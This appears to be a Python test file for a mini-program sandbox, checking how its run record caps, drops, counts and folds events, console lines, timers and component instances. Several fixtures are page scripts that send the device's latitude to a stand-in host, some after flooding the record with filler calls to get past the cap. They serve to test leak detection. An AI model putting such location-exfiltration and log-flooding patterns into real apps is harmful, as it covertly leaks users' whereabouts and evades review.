"""The record's caps: events past the cap, console lines past theirs; what is kept and what is counted."""

from __future__ import annotations

from mpsandbox.runtime.sandbox import RunLimits, Sandbox

from .bundles import make_bundle
from .helpers import run_pages

SMALL = RunLimits(max_events=60, max_kept_events=5, max_console=10)
LEAK = ("tt.getLocation({ success: (r) => { for (var i = 0; i < 40; i++) clearTimeout(setTimeout(function () {}, 9e9));"
        " %s } });")


def page(body: str) -> dict[str, str]:
    return {"pages/p/p": "Page({ onLoad() { " + LEAK % body + " } })"}


def test_past_the_event_cap_the_events_findings_need_are_kept_and_the_drop_is_counted(engine_name):
    trace = run_pages(page("tt.request({ url: 'https://x.example.com/?lat=' + r.latitude });"), engine=engine_name,
                      limits=SMALL)
    kinds = [e.kind for e in trace.events]
    assert "flow" in kinds and trace.api_calls("request")  # the leak past the cap is on record
    caps = trace.of_kind("cap")
    assert [(c.cap, c.where, c.unit, c.judged) for c in caps] == [("events", None, "events", False)]
    assert caps[0].limit == 60 and caps[0].dropped == trace.end.dropped_events > 0
    seqs = [e.seq for e in trace.events]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs)


def test_past_the_second_cap_even_judged_events_are_dropped_and_that_is_judged(engine_name):
    body = "for (var j = 0; j < 10; j++) tt.getLocation({}); tt.request({ url: 'https://x.example.com/?' + r.latitude });"
    trace = run_pages(page(body), engine=engine_name, limits=SMALL)
    judged = [c for c in trace.of_kind("cap") if c.where == "judged"]
    assert judged and judged[0].judged and judged[0].limit == 65 and judged[0].dropped > 0
    assert not trace.of_kind("flow")  # lost: which is why the cap is an error


def test_console_lines_past_their_cap_are_dropped_but_still_searched(engine_name):
    trace = run_pages(page("for (var i = 0; i < 15; i++) console.log('line', i); console.log('at', r.latitude);"),
                      engine=engine_name, limits=RunLimits(max_console=10))
    assert len(trace.of_kind("console")) == 10
    cap = trace.of_kind("cap")[0]
    assert (cap.cap, cap.unit, cap.limit, cap.dropped, cap.judged) == ("console", "lines", 10, 6, False)
    assert [f.sink for f in trace.of_kind("flow")] == ["console"]


def test_calls_past_the_cap_that_the_review_does_not_judge_are_counted_not_kept(engine_name):
    """A bundle that fills the record with cheap calls: each later call is one dropped event (its event is never
    built), and the leak after them is on record."""
    body = "for (var j = 0; j < 200; j++) tt.getStorageInfoSync(); tt.request({ url: 'https://x.example.com/?' + r.latitude });"
    trace = run_pages(page(body), engine=engine_name, limits=SMALL)
    assert trace.api_calls("request") and trace.of_kind("flow")
    assert len(trace.api_calls("getStorageInfoSync")) < 60
    (cap,) = trace.of_kind("cap")
    assert cap.dropped == trace.end.dropped_events >= 200 - 60
    seqs = [e.seq for e in trace.events]
    assert seqs == sorted(seqs) and len(set(seqs)) == len(seqs) and seqs[-1] < len(trace.events) + cap.dropped


# ---- folded repeats: a polling chain's links, an interval's fires, a long list's components -----------------------
def _timer_events(trace, op: str):
    return [e for e in trace.of_kind("timer") if e.op == op]


def test_a_long_timeout_chain_is_recorded_link_by_link_then_counted(engine_name):
    poll = "Page({ onLoad() { let n = 0; const poll = () => { if (++n < 500) setTimeout(poll, 100) }; poll() } })"
    trace = run_pages({"pages/p/p": poll}, engine=engine_name)
    sets, fires = _timer_events(trace, "set"), _timer_events(trace, "fire")
    assert sum(e.times for e in sets) == 499 and sum(e.times for e in fires) == 499  # every link counted
    assert len(sets) == len(fires) == 21  # the first 20 links one by one, the rest in one event each
    assert sets[-1].times == 499 - 20 and sets[-1].owner == "pages/p/p"


def test_a_long_chains_ordinary_turns_fold_and_a_heavy_one_stays_on_its_own(engine_name):
    poll = ("Page({ onLoad() { let n = 0; const poll = () => { n++;"
            " if (n === 300) { let s = 0; for (let i = 0; i < 3e6; i++) s += i % 7 }"
            " if (n < 500) setTimeout(poll, 100) }; poll() } })")
    trace = run_pages({"pages/p/p": poll}, engine=engine_name)
    timer_turns = [t for t in trace.turns if t.task == "timer"]
    assert sum(t.times for t in timer_turns) == 499  # every fire's turn is counted
    assert len(timer_turns) < 30  # the first 20 one by one, then one turn counting the ordinary rest...
    heavy = max(timer_turns, key=lambda t: t.cpu_units)
    light = [t.cpu_units for t in timer_turns if t is not heavy]
    assert heavy.times == 1 and heavy.cpu_units > 100 * max(light[:20])  # ...and the heavy one kept for long-turn


def test_timers_set_at_once_are_not_folded_so_their_peak_is_seen(engine_name):
    many = "Page({ onLoad() { for (let i = 0; i < 150; i++) setTimeout(() => {}, 100 + i) } })"
    trace = run_pages({"pages/p/p": many}, engine=engine_name)
    assert len(_timer_events(trace, "set")) == 150 and all(e.times == 1 for e in trace.of_kind("timer"))


def test_an_intervals_fires_fold_per_owner_state(engine_name):
    bundle = make_bundle({"pages/p/p": "Page({ onLoad() { setInterval(() => {}, 10) } })", "pages/q/q": "Page({})"})
    with Sandbox(bundle, engine=engine_name) as sb:
        sb.launch()
        sb.run(until=1_000)
        sb.route("reLaunch", "/pages/q/q")
        sb.run(until=2_000)
        trace = sb.finish()
    fires = _timer_events(trace, "fire")
    alive = [e for e in fires if e.owner_alive]
    dead = [e for e in fires if not e.owner_alive]
    assert len(alive) == 21 and alive[-1].times > 50  # its first 20 fires, then one event counting the rest
    assert len(dead) == 1 and dead[0].times > 50  # after the page unloaded: one event, its own
    assert len({e.timer_id for e in fires}) == 1


def test_a_long_lists_components_are_counted_past_their_first_instances(engine_name):
    extra = {"components/tile/tile.json": '{"component": true}', "components/tile/tile.js": "Component({})",
             "components/tile/tile.ttml": "<view>t</view>",
             "pages/p/p.json": '{"usingComponents": {"tile": "/components/tile/tile"}}',
             "pages/p/p.ttml": '<tile tt:for="{{items}}" tt:key="*this"/>'}
    page = "Page({ data: { items: Array.from({ length: 300 }, (_, i) => i) } })"
    trace = run_pages({"pages/p/p": page}, engine=engine_name, extra=extra)
    created = [e for e in trace.of_kind("lifecycle") if e.target == "component" and e.hook == "created"]
    assert sum(e.times for e in created) == 300 and len(created) == 51
